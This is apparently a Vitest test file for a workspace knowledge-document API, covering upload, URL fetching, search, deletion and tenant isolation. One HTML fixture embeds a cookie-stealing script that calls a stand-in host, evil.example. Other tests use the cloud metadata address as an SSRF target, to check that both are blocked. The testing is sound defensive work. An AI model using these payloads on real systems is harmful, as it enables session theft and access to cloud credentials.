import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from '../support/context.js';

/*
 * Knowledge documents through the API (issue 49): uploaded or given by URL, read by the ingestion
 * job, cut into passages and found by `GET …/knowledge/search`, within their workspace only.
 */

let t: TestContext;

beforeAll(async () => {
  t = await createTestContext();
});
afterAll(async () => {
  await t.close();
});

const MARKDOWN = `# Expense policy

## Travel

Train tickets are booked through the travel desk. Flights need the approval of a director when they cost more than 800 euros.

## Meals

Team dinners are paid up to 45 euros a person, drinks included.
`;

function upload(name: string, text: string, type = 'text/markdown') {
  const form = new FormData();
  form.append('file', new File([text], name, { type }));
  return form;
}

async function workspaceOf() {
  const admin = await t.signUp();
  const workspace = await t.createWorkspace(admin.cookie, { name: `Knowledge ${t.uniqueEmail('ws')}` });
  return { admin, workspaceId: workspace.id as string };
}

async function readyDocument(cookie: string, workspaceId: string, documentId: string) {
  await t.runner.idle();
  const got = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${documentId}`, { cookie });
  expect(got.status, got.text).toBe(200);
  return got.body.document as Record<string, unknown>;
}

describe('knowledge documents', () => {
  it('reads an uploaded Markdown file into passages that the search finds, with their section', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const created = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, {
      cookie: admin.cookie,
      raw: upload('expenses.md', MARKDOWN),
    });
    expect(created.status, created.text).toBe(202);
    expect(created.body.document).toMatchObject({ title: 'expenses', status: 'queued', kind: 'markdown', filename: 'expenses.md' });
    const document = await readyDocument(admin.cookie, workspaceId, created.body.document.id);
    expect(document).toMatchObject({ status: 'ready', progress: 100, error: null });
    expect(document.passages).toBeGreaterThanOrEqual(1);

    const found = await t.request(
      'GET',
      `/api/workspaces/${workspaceId}/knowledge/search?q=${encodeURIComponent('who approves flights?')}`,
      {
        cookie: admin.cookie,
      },
    );
    expect(found.status, found.text).toBe(200);
    const [best] = found.body.passages;
    expect(best).toMatchObject({ document_id: created.body.document.id, title: 'expenses' });
    expect(best.text).toContain('approval of a director');
    expect(best.section).toContain('Travel');

    const listed = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie });
    expect(listed.body.documents.map((entry: { id: string }) => entry.id)).toEqual([created.body.document.id]);

    // What a citation opens: the passages in order, to any member.
    const member = await t.addMember(admin.cookie, { name: 'Mia Member' });
    const opened = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${created.body.document.id}/passages`, {
      cookie: member.cookie,
    });
    expect(opened.status, opened.text).toBe(200);
    expect(opened.body.document).toMatchObject({ title: 'expenses', status: 'ready' });
    expect(opened.body.passages.map((passage: { section: string }) => passage.section)).toEqual([
      'Expense policy › Travel',
      'Expense policy › Meals',
    ]);
  });

  it('keeps an HTML page as its text only: its scripts never reach a passage, and its markup is not kept', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const page = `<html><head><title>Returns</title><script>fetch('https://evil.example/?c='+document.cookie)</script></head>
      <body onload="alert(1)"><h1>Returns</h1><p>Returns are accepted within <b>30 days</b>.</p><style>p{}</style></body></html>`;
    const created = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, {
      cookie: admin.cookie,
      raw: upload('returns.html', page, 'text/html'),
    });
    const id = created.body.document.id as string;
    expect(await readyDocument(admin.cookie, workspaceId, id)).toMatchObject({ status: 'ready', kind: 'html' });
    const opened = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${id}/passages`, { cookie: admin.cookie });
    const text = JSON.stringify(opened.body.passages);
    expect(text).toContain('Returns are accepted within 30 days.');
    expect(text).not.toMatch(/evil|cookie|alert|<|onload/);
    expect(await t.deps.blobs.get(`knowledge/${admin.org.id}/${workspaceId}/${id}/source`)).toBeUndefined();
  });

  it('fetches a document by its URL, and fails one whose URL redirects to the metadata address, with the reason', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const site: Server = createServer((request, response) => {
      if (request.url === '/guide.md')
        response.writeHead(200, { 'content-type': 'text/markdown' }).end('# Guide\n\nParcels leave the warehouse at noon.');
      else response.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/' }).end();
    });
    await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
    try {
      const post = (url: string) =>
        t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie, body: { url } });
      const fetched = await post(`${base}/guide.md`);
      expect(fetched.status, fetched.text).toBe(202);
      expect(await readyDocument(admin.cookie, workspaceId, fetched.body.document.id)).toMatchObject({ status: 'ready', kind: 'markdown' });
      const redirected = await post(`${base}/moved`);
      expect(redirected.status, redirected.text).toBe(202);
      const failed = await readyDocument(admin.cookie, workspaceId, redirected.body.document.id);
      expect(failed.status).toBe('failed');
      expect(String(failed.error)).toMatch(/not allowed/);
    } finally {
      await new Promise((resolve) => site.close(resolve));
    }
  });

  it('no longer finds a deleted document', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const created = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, {
      cookie: admin.cookie,
      raw: upload('meals.txt', 'Team dinners are paid up to 45 euros a person.', 'text/plain'),
    });
    const id = created.body.document.id as string;
    await readyDocument(admin.cookie, workspaceId, id);
    const search = () => t.request('GET', `/api/workspaces/${workspaceId}/knowledge/search?q=dinners`, { cookie: admin.cookie });
    expect((await search()).body.passages).toHaveLength(1);
    const deleted = await t.request('DELETE', `/api/workspaces/${workspaceId}/knowledge/documents/${id}`, { cookie: admin.cookie });
    expect(deleted.status, deleted.text).toBe(200);
    await t.runner.idle();
    expect((await search()).body.passages).toEqual([]);
    const gone = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${id}`, { cookie: admin.cookie });
    expect(gone.status).toBe(404);
  });

  it("never finds another organisation's document, and its workspace is 404", async () => {
    const { admin, workspaceId } = await workspaceOf();
    const created = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, {
      cookie: admin.cookie,
      raw: upload('secret.md', '# Secret\n\nThe launch code is swordfish.'),
    });
    await readyDocument(admin.cookie, workspaceId, created.body.document.id);
    const stranger = await workspaceOf();
    const own = await t.request('GET', `/api/workspaces/${stranger.workspaceId}/knowledge/search?q=swordfish`, {
      cookie: stranger.admin.cookie,
    });
    expect(own.status).toBe(200);
    expect(own.body.passages).toEqual([]);
    const theirs = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/search?q=swordfish`, { cookie: stranger.admin.cookie });
    expect(theirs.status).toBe(404);
    const document = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents/${created.body.document.id}`, {
      cookie: stranger.admin.cookie,
    });
    expect(document.status).toBe(404);
  });

  it('refuses a file it does not read, an empty form, a URL at the metadata address, and a bad limit, writing nothing', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const post = (raw: FormData | string, headers?: Record<string, string>) =>
      t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie, raw, headers });
    const binary = new FormData();
    binary.append('file', new File([new Uint8Array([0, 1, 2, 3, 255, 254])], 'blob.bin', { type: 'application/octet-stream' }));
    const refusedKind = await post(binary);
    expect(refusedKind.status, refusedKind.text).toBe(400);
    expect(refusedKind.body.details[0].path).toBe('file');
    const empty = await post(new FormData());
    expect(empty.status).toBe(400);
    const metadata = await post(JSON.stringify({ url: 'http://169.254.169.254/latest/meta-data/' }), {
      'content-type': 'application/json',
    });
    expect(metadata.status, metadata.text).toBe(400);
    expect(metadata.body.details[0].path).toBe('url');
    const listed = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie });
    expect(listed.body.documents).toEqual([]);
    const badLimit = await t.request('GET', `/api/workspaces/${workspaceId}/knowledge/search?q=x&limit=51`, { cookie: admin.cookie });
    expect(badLimit.status).toBe(400);
  });

  it('refuses an upload over 20 MB with 413 before reading it whole', async () => {
    const { admin, workspaceId } = await workspaceOf();
    const form = new FormData();
    form.append('file', new File([new Uint8Array(30 * 1024 * 1024).fill(65)], 'big.txt', { type: 'text/plain' }));
    const refused = await t.request('POST', `/api/workspaces/${workspaceId}/knowledge/documents`, { cookie: admin.cookie, raw: form });
    expect(refused.status, refused.text).toBe(413);
    expect(refused.body.error).toContain('20 MB');
  });
});
